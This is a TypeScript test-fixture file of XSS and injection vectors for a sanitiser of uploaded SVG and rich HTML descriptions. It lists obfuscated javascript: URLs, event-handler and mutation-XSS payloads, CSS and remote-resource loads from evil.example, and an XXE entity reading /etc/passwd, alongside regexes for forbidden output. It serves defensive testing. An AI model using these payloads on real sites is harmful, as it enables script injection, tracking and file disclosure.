/**
 * Script-injection vectors for uploaded SVG and rich descriptions. Shared by the sanitiser's unit
 * tests and the browser test that publishes a map made of them. Every vector that would run code
 * calls `window.__mnXss(n)` (or alert/confirm/prompt), and every remote reference points at
 * evil.example, so a test can see both at once.
 */

export const EVIL = 'https://evil.example';

/** SVG fragments; each is wrapped in its own <svg> by `svgDocument`. */
export const SVG_VECTORS: readonly string[] = [
  '<script>window.__mnXss(1)</script>',
  '<script href="https://evil.example/x.js"></script>',
  '<g onload="window.__mnXss(2)"><rect width="5" height="5"/></g>',
  '<rect id="xss-onclick" width="9" height="9" onclick="window.__mnXss(3)" ONMOUSEOVER="window.__mnXss(3)"/>',
  '<a xlink:href="javascript:window.__mnXss(4)"><rect width="5" height="5"/></a>',
  '<a href="javascript:window.__mnXss(5)"><text>x</text></a>',
  '<a href="&#106;avascript:window.__mnXss(6)"><rect width="5" height="5"/></a>',
  '<a href="java&#x09;script:window.__mnXss(7)"><rect width="5" height="5"/></a>',
  '<foreignObject width="100" height="100"><iframe src="javascript:window.__mnXss(8)"></iframe><img src="x" onerror="window.__mnXss(8)"/></foreignObject>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"/>',
  '<image href="https://evil.example/track.png" width="5" height="5"/>',
  '<image xlink:href="javascript:window.__mnXss(9)"/>',
  '<image href="x" onerror="window.__mnXss(10)"/>',
  '<rect width="5" height="5" style="fill:url(https://evil.example/x.svg#g)"/>',
  '<rect width="5" height="5" fill="url(https://evil.example/x.svg#g)"/>',
  '<rect width="5" height="5" filter="url(//evil.example/f.svg#f)"/>',
  '<style>@import url(https://evil.example/x.css); rect{fill:red}</style>',
  '<style>rect{background:url(https://evil.example/a.png)}</style>',
  '<style>} body{display:none} x{</style>',
  '<style>rect{fill:red} & ~ *{display:none}</style>',
  '<style>rect{background:u\\72l(https://evil.example/x.png)}</style>',
  '<style><img src=x onerror="window.__mnXss(11)"></style>',
  '<set attributeName="onmouseover" to="window.__mnXss(12)"/>',
  '<animate attributeName="href" to="javascript:window.__mnXss(13)"/>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.__mnXss(14)</handler>',
  '<iframe src="javascript:window.__mnXss(15)"></iframe>',
  '<feImage href="https://evil.example/x.png"/>',
  '<title><![CDATA[</title><script>window.__mnXss(16)</script>]]></title>',
  '<desc><img src="x" onerror="window.__mnXss(17)"></desc>',
  '<textPath href="https://evil.example/x.svg#p">t</textPath>',
  '<g xml:base="javascript:window.__mnXss(18)//"><a href="x"><rect width="5" height="5"/></a></g>',
  '<embed src="javascript:window.__mnXss(19)"/>',
  '<object data="javascript:window.__mnXss(20)"></object>',
  '<discard onbegin="window.__mnXss(21)"/>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__mnXss(22)"></style></mglyph></table></mtext></math>',
  '<animateTransform attributeName="transform" type="rotate" from="0" to="1" dur="1s" onbegin="window.__mnXss(23)"/>',
  '<a href="https://evil.example/ok"><rect width="5" height="5"/></a>',
  // A newline ends a CSS string: counting quotes and braces took the rest as inside the string (issue 14).
  '<style>.x{content:"a\n}} svg{display:none} body{background:red} /*"}</style>',
  "<style>.x{content:'a\n}} } html{display:none} .y{'}</style>",
  '<style>rect{fill:red}</style><style>} } body{visibility:hidden}</style>',
  '<a href="  javascript:window.__mnXss(24)"><rect width="5" height="5"/></a>',
  '<a href="&#x6a;avascript:window.__mnXss(25)"><rect width="5" height="5"/></a>',
  '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" width="5" height="5"/>',
  '<use href="data:image/svg+xml,%3Csvg id=%22x%22 onload=%22window.__mnXss(26)%22/%3E#x"/>',
  '<svg><style><img src=x onerror="window.__mnXss(27)"></style></svg>',
];

/** A whole SVG document carrying every vector, plus a doctype with an external entity. */
export function svgDocument(extraBody = ''): string {
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1000 800" width="1000" height="800" onload="window.__mnXss(100)">',
    '<rect width="1000" height="800" fill="#f4f4f1"/>',
    // Before the vectors: some of them end the SVG early for the HTML parser (as a browser would).
    extraBody,
    ...SVG_VECTORS,
    '</svg>',
  ].join('\n');
}

/** Rich-description vectors. */
export const HTML_VECTORS: readonly string[] = [
  '<img src=x onerror="window.__mnXss(201)">',
  '<a href="javascript:window.__mnXss(202)">click</a>',
  '<a href="JaVaScRiPt:window.__mnXss(203)">click</a>',
  '<a href="data:text/html,<script>window.__mnXss(204)</script>">data</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.__mnXss(205)</script>"></iframe>',
  '<script>window.__mnXss(206)</script>',
  '<svg onload="window.__mnXss(207)"></svg>',
  '<svg><script>window.__mnXss(208)</script></svg>',
  '<math><mi xlink:href="javascript:window.__mnXss(209)">m</mi></math>',
  '<form action="javascript:window.__mnXss(210)"><button>go</button></form>',
  '<div style="background:url(https://evil.example/x.png)">bg</div>',
  '<details open ontoggle="window.__mnXss(211)">d</details>',
  '<noscript><p title="</noscript><img src=x onerror=window.__mnXss(212)>"></p></noscript>',
  '<object data="javascript:window.__mnXss(213)"></object>',
  '<embed src="javascript:window.__mnXss(214)">',
  '<base href="javascript:window.__mnXss(215)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__mnXss(216)">',
  '<input autofocus onfocus="window.__mnXss(217)">',
  '<img src="javascript:window.__mnXss(218)">',
  '<video><source onerror="window.__mnXss(219)"></video>',
  '<body onload="window.__mnXss(220)">',
  '<style>*{background:url(https://evil.example/s.png)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p id="getElementById" name="cookie">clobber</p>',
  '<a href="https://example.com/ok">a safe link</a>',
  '<img src="/files/ok.png" alt="ok">',
  '<template><img src=x onerror="window.__mnXss(221)"></template>',
  '<svg><foreignObject><img src=x onerror="window.__mnXss(222)"></foreignObject></svg>',
  '<marquee onstart="window.__mnXss(223)">m</marquee>',
  '<img src="x" style="x:expression(window.__mnXss(224))">',
  '<a href="jav&#x09;ascript:window.__mnXss(225)">tab</a>',
  '<img src="/files/ok.png" srcset="https://evil.example/a.png 1x">',
  '<p style="color:red;background-image:url(https://evil.example/x.png)">bg</p>',
  '<svg><style><img src=x onerror="window.__mnXss(226)"></style></svg>',
  '<select><style></select><img src=x onerror="window.__mnXss(227)"></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__mnXss(228)">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__mnXss(229)&gt;">',
  '<a href="https://example.com/ok" target="_self" rel="opener">ok</a>',
  '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
];

/** Patterns that must never survive sanitising. */
export const FORBIDDEN_OUTPUT: readonly RegExp[] = [
  /<script/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /foreignobject/i,
  /evil\.example(?!\/ok)/i,
  /<iframe/i,
  /<embed/i,
  /<object/i,
  /<handler/i,
  /<set\b/i,
  /<animate\b/i,
  /@import/i,
  /xml:base/i,
  /data:image\/svg/i,
  /data:text/i,
];
